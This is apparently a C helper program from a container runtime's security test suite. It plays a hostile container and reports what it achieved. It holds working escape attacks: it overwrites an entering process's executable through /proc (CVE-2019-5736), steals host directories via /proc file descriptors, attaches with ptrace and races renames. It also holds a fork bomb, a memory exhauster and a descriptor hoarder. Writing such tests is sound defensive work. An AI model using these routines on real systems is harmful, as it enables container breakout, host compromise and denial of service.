// What a hostile container does: the attacker's side of tests/attack/attacks, static, so that it runs in any root. Says on standard output
// what it achieved. It only ever touches what the test made for it.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void say(const char *text)
{
	puts(text);
	fflush(stdout);
}

// Calls LOOK for every process but the first and itself, again and again, until it returns non-zero or SECONDS have passed.
static int every_process(double seconds, int (*look)(const char *pid, const char *argument), const char *argument)
{
	double end = now() + seconds;

	while (now() < end) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			int pid = atoi(entry->d_name);
			if (pid > 1 && pid != getpid() && look(entry->d_name, argument)) {
				closedir(dir);
				return 1;
			}
		}
		if (dir)
			closedir(dir);
	}
	return 0;
}

// Opens the executable of a process that enters, and overwrites it as soon as it no longer runs (CVE-2019-5736).
static int overwrite_one(const char *pid, const char *argument)
{
	char path[64];
	struct stat own, other;
	const char *result = "refused";

	(void)argument;
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0 || fstat(fd, &other) < 0 || stat("/proc/self/exe", &own) < 0 || (own.st_ino == other.st_ino && own.st_dev == other.st_dev)) {
		if (fd >= 0)
			close(fd);
		return 0;
	}
	say("held");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (double end = now() + 5; now() < end;) {
		int to = open(path, O_WRONLY);
		if (to >= 0) {
			result = write(to, "OVERWRITTEN", 11) == 11 ? "overwritten" : "refused";
			break;
		}
		if (errno != ETXTBSY)
			break;
	}
	say(result);
	return 1;
}

// Steals a directory of the host from the descriptors of a process that enters: one that contains the file NAME.
static int steal_one(const char *pid, const char *name)
{
	char path[512];

	for (int fd = 0; fd < 32; fd++) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%d/%s", pid, fd, name);
		if (access(path, F_OK) == 0)
			return say("stolen"), 1;
	}
	snprintf(path, sizeof(path), "/proc/%s/root/%s", pid, name);
	return access(path, F_OK) == 0 ? (say("stolen"), 1) : 0;
}

// Gets hold of a process that has no filter yet, or does not know yet what it will be.
static int trace_one(const char *pid, const char *argument)
{
	(void)argument;
	return ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0 ? (say("traced"), 1) : 0;
}

// Exchanges the names A and B as fast as it can (a directory and a link, say), until its parent has gone or SECONDS have passed.
static int flip(const char *a, const char *b, double seconds)
{
	say("flipping");
	for (double end = now() + seconds; now() < end && getppid() != 1;)
		for (int i = 0; i < 1000; i++)
			if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
				return perror("renameat2"), 1;
	return 0;
}

static void link_of(const char *kind, char *out, size_t size)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/ns/%s", kind);
	ssize_t n = readlink(path, out, size - 1);
	out[n > 0 ? n : 0] = '\0';
}

// Changes two of its namespaces at once, again and again, and notes every pair it was in.
static int shift(const char *file, double seconds)
{
	FILE *pairs = fopen(file, "w");
	char uts[64], ipc[64];

	if (!pairs)
		return 1;
	for (double end = now() + seconds; now() < end;) {
		link_of("uts", uts, sizeof(uts));
		link_of("ipc", ipc, sizeof(ipc));
		fprintf(pairs, "%s %s\n", uts, ipc);
		fflush(pairs);
		if (unshare(CLONE_NEWUTS | CLONE_NEWIPC) < 0)
			return perror("unshare"), 1;
	}
	return 0;
}

static int pair(void)
{
	char uts[64], ipc[64];

	link_of("uts", uts, sizeof(uts));
	link_of("ipc", ipc, sizeof(ipc));
	printf("%s %s\n", uts, ipc);
	return 0;
}

// As many processes as it may have, up to COUNT; then says how many.
static int bomb(int count)
{
	int made = 0;
	char text[32];

	for (; made < count; made++) {
		pid_t pid = fork();
		if (pid == 0) {
			pause();
			_exit(0);
		}
		if (pid < 0)
			break;
	}
	snprintf(text, sizeof(text), "%d", made);
	say(text);
	pause();
	return 0;
}

// Uses MIB of memory.
static int eat(size_t mib)
{
	char *memory = mmap(NULL, mib << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (memory == MAP_FAILED)
		return 1;
	memset(memory, 'x', mib << 20);
	say("eaten");
	return 0;
}

// Opens descriptors until there are no more, and keeps them.
static int hoard(void)
{
	while (open("/", O_RDONLY) >= 0)
		;
	say(errno == EMFILE ? "full" : strerror(errno));
	pause();
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "", *a = argc > 2 ? argv[2] : "", *b = argc > 3 ? argv[3] : "";

	if (strcmp(what, "overwrite") == 0)
		return every_process(10, overwrite_one, NULL) ? 0 : (say("nobody came"), 1);
	if (strcmp(what, "steal") == 0)
		return every_process(atof(b), steal_one, a) ? 0 : (say("nothing"), 1);
	if (strcmp(what, "trace") == 0)
		return every_process(atof(a), trace_one, NULL) ? 0 : (say("nothing"), 1);
	if (strcmp(what, "flip") == 0)
		return flip(a, b, 300);
	if (strcmp(what, "shift") == 0)
		return shift(a, atof(b));
	if (strcmp(what, "pair") == 0)
		return pair();
	if (strcmp(what, "bomb") == 0)
		return bomb(atoi(a));
	if (strcmp(what, "eat") == 0)
		return eat((size_t)atoi(a));
	if (strcmp(what, "hoard") == 0)
		return hoard();
	fprintf(stderr, "attack: wrong use\n");
	return 2;
}
